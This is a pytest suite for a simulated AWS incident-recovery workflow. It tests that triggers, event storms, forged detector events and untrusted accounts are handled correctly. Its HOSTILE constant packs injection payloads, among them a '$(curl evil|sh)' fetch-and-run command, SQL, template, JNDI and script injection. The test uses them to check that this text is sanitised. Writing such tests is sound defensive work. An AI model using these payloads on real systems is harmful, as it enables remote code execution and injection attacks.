"""Every kind of trigger through the real rules; storms, forged events and hostile text."""

from __future__ import annotations

import json
from typing import Any

import pytest

from local.simulation.story import Story, iso, sample
from local.simulation.world import DETECTOR, OWNER, Simulation
from tests.workflow.scenarios import MACHINES, played

ALL = {
    "guardDuty": {"allow": "request", "types": ["Stealth:IAMUser/*"]},
    "securityHub": {"allow": "request", "customActions": [{"id": "AirliftRecover", "allow": "request"}]},
    "health": {"allow": "request"},
    "cases": {"allow": "request"},
    "custom": {"allow": "request"},
    "alarms": [
        {"arn": f"arn:aws:cloudwatch:ap-northeast-1:{DETECTOR}:alarm:{name}", "account": OWNER, "allow": "request"}
        for name in ("production-mass-deletion", "production-under-attack")
    ],
}


def ended(story: Story) -> list[tuple[str, str | None]]:
    """What became of each execution."""
    found = []
    for one in story.executions():
        output = json.loads(one["output"]) if one.get("output") else {}
        found.append((one["status"], output.get("outcome", one.get("error"))))
    return found


def transitions(story: Story, execution_arn: str) -> int:
    """How many states an execution entered; tries again don't count here."""
    history = story.sim.engine.history(execution_arn)["events"]
    return sum(event["type"].endswith("StateEntered") for event in history)


def quiet(story: Story, **plan: Any) -> None:
    """A vault with something in it, and a plan; nobody votes."""
    story.votes = ()
    story.prepare(days=1, **plan)
    story.sim.messages()


SAMPLES = (
    "guardduty-finding",
    "guardduty-attack-sequence",
    "guardduty-stealth",
    "securityhub-imported",
    "securityhub-v2",
    "securityhub-custom-action",
    "cloudwatch-alarm",
    "cloudwatch-composite-alarm",
    "health-risk",
    "custom-recovery-requested",
)


@pytest.fixture(scope="module")
def every_kind() -> list[dict[str, Any]]:
    """One recovery after another by each sample: the recoveries."""
    with Simulation() as sim:
        story = Story(sim)
        quiet(story, triggers=ALL, approval={"coolDownMinutes": 0})
        for name in SAMPLES:
            event = sample(name)
            _unique(event, name)
            story.send(event)
            sim.run(20)
            running = story.executions()[-1]
            if running["status"] == "RUNNING":
                sim.client("stepfunctions").stop_execution(executionArn=running["executionArn"])
            sim.run(60)
        return sorted(story.records("RECOVERY#", "RECOVERY"), key=lambda one: str(one["createdAt"]))


def _unique(event: dict[str, Any], name: str) -> None:
    """Samples of one finding tell of one incident; here each is to be one of its own."""
    mark = f"{SAMPLES.index(name):032x}"
    for finding in event["detail"].get("findings", []):
        arn = finding.get("Id") or finding["finding_info"]["uid"]
        other = arn.rpartition("/")[0] + "/" + mark
        if "Id" in finding:
            finding["Id"] = other
        else:
            finding["finding_info"]["uid"] = other


def test_every_kind_of_event_starts_a_recovery_through_its_rule(every_kind: list[dict[str, Any]]) -> None:
    kinds = [recovery["trigger"]["kind"] for recovery in every_kind]
    hub = ["securityHub"] * 3
    assert kinds == [*["guardDuty"] * 3, *hub, "alarm", "alarm", "health", "custom"]
    assert all(recovery["account"] == OWNER for recovery in every_kind)


def test_one_finding_by_three_ways_is_one_incident() -> None:
    with Simulation() as sim:
        story = Story(sim)
        quiet(story, triggers=ALL)
        for name in ("securityhub-v2", "guardduty-finding", "securityhub-imported", "securityhub-custom-action"):
            story.send(sample(name))
            sim.run(5)
        assert len(story.records("RECOVERY#", "RECOVERY")) == 1
        assert [outcome for _, outcome in ended(story)] == [None, "ignored", "ignored", "ignored"]


def test_what_may_do_more_goes_on_where_the_same_finding_was_only_told() -> None:
    """Security Hub's copy comes first and may only tell; GuardDuty's own may ask for access."""
    with Simulation() as sim:
        story = Story(sim)
        quiet(story, triggers={"guardDuty": {"allow": "request"}, "securityHub": {"allow": "notify"}})
        for name in ("securityhub-imported", "guardduty-finding", "securityhub-v2"):
            story.send(sample(name))
            sim.run(10)
        assert ended(story) == [("SUCCEEDED", "done"), ("RUNNING", None), ("SUCCEEDED", "ignored")]


def test_a_storm_is_one_recovery_and_one_set_of_notices() -> None:
    """A thousand events in a minute: findings, their updates, and copies by Security Hub."""
    with Simulation() as sim:
        story = Story(sim)
        quiet(story, triggers=ALL)
        before = set(_subjects(sim))
        for number in range(1000):
            if number % 4 == 3:
                event = sample("securityhub-imported")
                _mark(event, number // 8)
                story.send(event)
            else:
                story.send_finding(finding_id=f"{number // 4:032x}")
            sim.run(0.06)
        sim.run(30)
        executions = story.executions()
        running = [one for one in executions if one["status"] == "RUNNING"]
        surplus = [one["executionArn"] for one in executions if one["status"] == "SUCCEEDED"]
        assert (len(executions), len(running), len(surplus)) == (1000, 1, 999)
        assert {transitions(story, arn) for arn in surplus} == {3}
        assert len(story.records("RECOVERY#", "RECOVERY")) == 1
        assert len(story.sessions()) == 1
        told = [one for one in _subjects(sim) if one not in before]
        assert len(told) == 1, told
        assert len(story.executions(MACHINES[1])) == 1


def _mark(event: dict[str, Any], number: int) -> None:
    finding = event["detail"]["findings"][0]
    finding["Id"] = finding["Id"].rpartition("/")[0] + f"/{number:032x}"


def _subjects(sim: Simulation) -> list[str]:
    return [message["Subject"] for message in sim.messages()]


@pytest.mark.parametrize("allow", ["notify", "check"])
def test_a_storm_of_what_may_only_tell_tells_once(allow: str) -> None:
    with Simulation() as sim:
        story = Story(sim)
        quiet(story, triggers={"guardDuty": {"allow": allow}})
        for number in range(20):
            story.send_finding(finding_id=f"{number:032x}")
        sim.run(30)
        assert sorted(str(outcome) for _, outcome in ended(story)) == ["done", *["ignored"] * 19]
        told = sim.messages()
        assert len(told) == 1
        assert f"airlift start --account {OWNER}" in told[0]["Message"]
        assert ("readiness checks found" in told[0]["Message"]) is (allow == "check")
        sim.run(3601)
        story.send_finding(finding_id="f" * 32)
        sim.run(30)
        assert len(sim.messages()) == 1


def test_only_detectors_reach_the_bus_and_only_what_the_plan_names_is_believed() -> None:
    with Simulation(parameters={"DetectorAccounts": f"{DETECTOR},999900001111"}) as sim:
        story = Story(sim)
        quiet(story, triggers=ALL)
        bus = sim.outputs["IncidentBusArn"]
        entry = {"Source": "airlift.recovery", "DetailType": "Recovery Requested", "EventBusName": bus}
        request = {"id": "x", "account": OWNER, "reason": "please"}
        # The protected account, and one that nobody knows, can't put anything on the bus.
        for account in (OWNER, "123456789012"):
            with pytest.raises(Exception, match="AccessDenied"):
                sim.client("events", account).put_events(Entries=[entry | {"Detail": json.dumps(request)}])
        # One that the template lets in and the plan doesn't list is not believed.
        sim.client("events", "999900001111").put_events(Entries=[entry | {"Detail": json.dumps(request)}])
        # A detector's own word about an account that is not protected, or by a forged ARN, starts nothing.
        alarm = sample("cloudwatch-alarm")
        alarm["resources"] = [alarm["resources"][0].replace("mass", "Mass")]
        hub = sample("securityhub-imported")
        hub["detail"]["findings"][0]["AwsAccountId"] = "111122224444"
        own = sample("securityhub-imported")
        own["detail"]["findings"][0]["ProductArn"] = f"arn:aws:securityhub:{sim.region}:{OWNER}:product/{OWNER}/default"
        other = sample("custom-recovery-requested")
        other["detail"]["account"] = "111122224444"
        for event in (alarm, hub, own, other):
            story.send(event)
        sim.run(30)
        told = sorted(json.loads(one["output"])["text"].partition(":")[0] for one in story.executions())
        assert told == ["AccountNotInPlan", "InvalidInput", "NotBelieved", "NotBelieved", "TriggerNotAllowed"]
        assert story.records("RECOVERY#") == []
        assert sim.messages() == []


def test_an_event_that_a_person_gives_as_input_is_taken_for_a_detectors_and_opens_nothing() -> None:
    """The machine can't tell who has started it; CloudTrail can."""
    with Simulation() as sim:
        story = Story(sim)
        quiet(story)
        event = sample("guardduty-finding") | {"account": DETECTOR}
        event["detail"]["accountId"] = OWNER
        sim.start(event)
        sim.run(30)
        recovery = story.recovery()
        assert (recovery["trigger"]["kind"], recovery["trigger"]["sender"]) == ("guardDuty", DETECTOR)
        (vault,) = story.records(f"RECOVERY#{recovery['recoveryId']}", "VAULT#")
        assert (vault["state"], vault.get("grantedAt")) == ("REQUESTED", None)


HOSTILE = (
    "$(curl evil|sh) `id` '; DROP TABLE x; -- {% $states.input %} ${jndi:ldap://x} "
    "<script>alert(1)</script>\n\r\x1b[31m" + "A" * 10_000
)


def test_hostile_text_is_shown_and_nothing_else(
    capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    with Simulation() as sim:
        story = Story(sim)
        story.prepare(days=1)
        sim.messages()
        story.send_finding(
            title=HOSTILE,
            description=HOSTILE,
            resource={"resourceType": HOSTILE, "accessKeyDetails": {"userName": HOSTILE}},
        )
        assert story.run_to_end()["status"] == "SUCCEEDED"
        told = "".join(message["Subject"] + message["Message"] for message in sim.messages())
        put = json.dumps([event for event in sim.events.log if event["source"] == "airlift"])
        kept = json.dumps(story.records(), default=str)
        logged = capsys.readouterr().out + repr([vars(record) for record in caplog.records])
    assert "Access requested" in logged
    for text in (told, put, kept, logged):
        for part in ("<script", "{%", "$(", "`id`", "\x1b", "${", "A" * 200, "\\u001b"):
            assert part not in text
    assert all("evil" not in line for line in told.splitlines() if line.startswith("Next step:"))


def test_the_daily_check_of_each_detector_is_noted_and_missed() -> None:
    with Simulation() as sim:
        story = Story(sim)
        quiet(story)
        check = sample("forwarding-check")
        entry = {"Source": check["source"], "DetailType": check["detail-type"], "Detail": json.dumps(check["detail"])}
        sim.client("events", DETECTOR).put_events(Entries=[entry])
        sim.run(10)
        assert ended(story) == [("SUCCEEDED", "ignored")]
        assert transitions(story, story.executions()[0]["executionArn"]) == 3
        (seen,) = story.records("FORWARDING")
        assert (seen["account"], seen["region"], seen["seenAt"][:16]) == (
            DETECTOR,
            sim.region,
            iso(sim.clock.now())[:16],
        )
        assert sim.messages() == []


def test_a_schedule_starts_a_drill() -> None:
    parameters = {"DrillSchedule": "rate(30 days)", "DrillAccount": OWNER}
    with Simulation(parameters=parameters) as sim:
        story = Story(sim)
        quiet(story)
        sim.tick(30)
        (recovery,) = story.records("RECOVERY#", "RECOVERY")
        assert (recovery["mode"], recovery["reason"], recovery["firstSign"]) == ("drill", "Scheduled drill", "latest")


def test_an_operator_goes_on_from_a_check() -> None:
    after = played("checked_then_started")
    assert after.endings() == [("SUCCEEDED", None), ("SUCCEEDED", None)]
    assert after.recovery["firstSignFrom"] == "the earliest believed sign for this account"
    assert "readiness checks found" in after.messages[0]["Message"]


def test_a_check_that_fails_is_told_of() -> None:
    after = played("check_fails")
    assert [status for status, _ in after.endings()] == ["FAILED", "SUCCEEDED"]
    told = [message["Message"] for message in after.messages if "your decision is needed" in message["Subject"]]
    assert len(told) == 1
    assert "could not be checked" in told[0]
